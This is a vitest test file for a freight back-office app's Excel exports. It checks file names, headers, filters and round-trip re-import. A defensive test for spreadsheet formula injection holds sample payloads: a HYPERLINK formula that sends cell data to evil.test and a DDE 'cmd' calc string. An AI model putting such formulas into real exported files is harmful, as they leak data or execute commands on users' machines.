// Excel export: file names, sheet1, headers = import headers, and the round
// trip: an exported file re-imports without changing anything.
import { beforeAll, describe, expect, it } from "vitest";
import * as fcl from "~/routes/backoffice/data-area";
import * as fclExport from "~/routes/backoffice/data-area-export";
import * as lcl from "~/routes/backoffice/data-area";
import * as lclExport from "~/routes/backoffice/data-area-export";
import * as port from "~/routes/backoffice/data-area";
import * as portExport from "~/routes/backoffice/data-area-export";
import * as airport from "~/routes/backoffice/data-area";
import * as airportExport from "~/routes/backoffice/data-area-export";
import * as expressCountry from "~/routes/backoffice/data-area";
import * as expressCountryExport from "~/routes/backoffice/data-area-export-selected";
import * as trailer from "~/routes/backoffice/data-area";
import * as trailerExport from "~/routes/backoffice/data-area-export-selected";
import { dataAreas, type DataArea } from "~/domain/data-areas";
import { withTestDb } from "../support/db";
import { callRoute, getRequest, loginAs, postForm } from "../support/requests";
import { headers, readSheet, sheetNames, uploadTo } from "./helpers";
import { sqlTable } from "~/utils/sql-names.server";

let cookie: string;
beforeAll(async () => {
  cookie = await loginAs("data@example.com");
});

type Mod = { loader: (args: any) => unknown; action: (args: any) => unknown };
const cases: [DataArea, Mod, { loader: (args: any) => unknown; action?: (args: any) => unknown }, string][] = [
  [dataAreas.fcl, fcl, fclExport, "oceanFreight.xls"],
  [dataAreas.lcl, lcl, lclExport, "lclFreight.xls"],
  [dataAreas.port, port, portExport, "海运港口.xls"],
  [dataAreas.airport, airport, airportExport, "空运港口.xls"],
  [dataAreas.expressCountry, expressCountry, expressCountryExport, "快递国家.xls"],
  [dataAreas.trailer, trailer, trailerExport, "拖车数据.xls"],
];

async function download(loader: (args: any) => unknown, path: string, query?: Record<string, string>) {
  const result = await callRoute(loader, getRequest(path, query, { cookie }));
  expect(result.status).toBe(200);
  return { result, bytes: new Uint8Array(await result.response!.arrayBuffer()) };
}

const snapshot = (table: string) => withTestDb(async (db) => (await db.query(`SELECT * FROM ${table} ORDER BY id`)).rows);

describe.each(cases)("%s export", (area, screen, exporter, fileName) => {
  it(`is ${fileName} with sheet1 and the import headers, and re-imports without changes`, async () => {
    const before = await snapshot(sqlTable(area.model));
    const count = before.length;
    const { result, bytes } = await download(exporter.loader, `${area.path}/export`, area.dateFilter ? { from: "", to: "" } : undefined);
    expect(result.headers.get("Content-Type")).toBe("application/vnd.ms-excel");
    expect(result.headers.get("Content-Disposition")).toBe(
      `attachment; filename="${area.export!.asciiName}"; filename*=UTF-8''${encodeURIComponent(fileName)}`,
    );
    expect([...bytes.slice(0, 4)]).toEqual([0xd0, 0xcf, 0x11, 0xe0]); // BIFF8 (.xls)
    expect(sheetNames(bytes)).toEqual(["sheet1"]);
    const rows = readSheet(bytes);
    expect(rows[0]).toEqual(headers(area));
    expect(rows.length - 1).toBe(count);

    const reimport = await uploadTo(screen, area.path, cookie, bytes, fileName);
    expect(reimport.status, JSON.stringify(reimport.data)).toBe(302);
    expect(await snapshot(sqlTable(area.model))).toEqual(before);
  });
});

describe("export filters and selections", () => {
  it("exports only the filtered rows", async () => {
    const { bytes } = await download(fclExport.loader, "/fclbyseaData/export", { pol: "SHANGHAI" });
    const rows = readSheet(bytes).slice(1);
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((r) => r[1]))).toEqual(new Set(["SHANGHAI"]));
  });

  it("exports the selected trailer rows (POST ids)", async () => {
    const result = await callRoute(trailerExport.action!, postForm("/trailerData/export", { ids: [3, 1, 2] }, { cookie }));
    expect(result.status).toBe(200);
    const rows = readSheet(new Uint8Array(await result.response!.arrayBuffer())).slice(1);
    expect(rows.map((r) => r[0])).toEqual([3, 2, 1]);
  });

  it("asks for a selection when none is sent", async () => {
    const result = await callRoute(trailerExport.action!, postForm("/trailerData/export", {}, { cookie }));
    expect(result.status).toBe(302);
    expect(result.headers.get("Location")).toBe("/trailerData");
  });

  it("an area without export answers 404", async () => {
    const { dataAreaExportLoader } = await import("~/routes/backoffice/-server/data-area.server");
    const result = await callRoute(dataAreaExportLoader(dataAreas.rail), getRequest("/railRoadData/export", undefined, { cookie }));
    expect(result.status).toBe(404);
  });
});

describe("formula-looking cells (issue 18, finding 9; OWASP CSV injection)", () => {
  const HOSTILE = [
    '=HYPERLINK("http://evil.test/?x="&A1,"报价")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "=1+1",
  ];

  it("are written as text behind an apostrophe; real numbers, negative too, stay numbers; the file re-imports unchanged", async () => {
    const { prisma } = await import("~/utils/db.server");
    const rows = await prisma.fclRate.findMany({ orderBy: { id: "asc" }, take: HOSTILE.length, select: { id: true } });
    for (const [i, row] of rows.entries())
      await prisma.fclRate.update({ where: { id: row.id }, data: { remark: HOSTILE[i], carrier: i === 0 ? "-" : undefined } });
    // A negative number the database may hold from before (the forms no longer take them).
    await prisma.fclRate.update({ where: { id: rows[1].id }, data: { gp20T0: "-5.5" } });
    const sheet = readSheet((await download(fclExport.loader, "/fclbyseaData/export", { from: "", to: "" })).bytes);
    const header = sheet[0] as string[];
    const byId = new Map(sheet.slice(1).map((r) => [r[0], r]));
    const remarkAt = header.indexOf("remark");
    rows.forEach((row, i) => expect(byId.get(row.id)![remarkAt], HOSTILE[i]).toBe(`'${HOSTILE[i]}`));
    expect(byId.get(rows[0].id)![header.indexOf("carrier")]).toBe("'-");
    expect(byId.get(rows[1].id)![header.indexOf("20GP_T0")]).toBe(-5.5);
    for (const cells of sheet.slice(1)) for (const cell of cells) if (typeof cell === "string") expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    await prisma.fclRate.update({ where: { id: rows[1].id }, data: { gp20T0: "5.5" } });
    const before = await snapshot("fcl_rates");
    const { bytes } = await download(fclExport.loader, "/fclbyseaData/export", { from: "", to: "" });
    const reimport = await uploadTo(fcl, "/fclbyseaData", cookie, bytes, "oceanFreight.xls");
    expect(reimport.status, JSON.stringify(reimport.data)).toBe(302);
    expect(await snapshot("fcl_rates")).toEqual(before);
  });
});
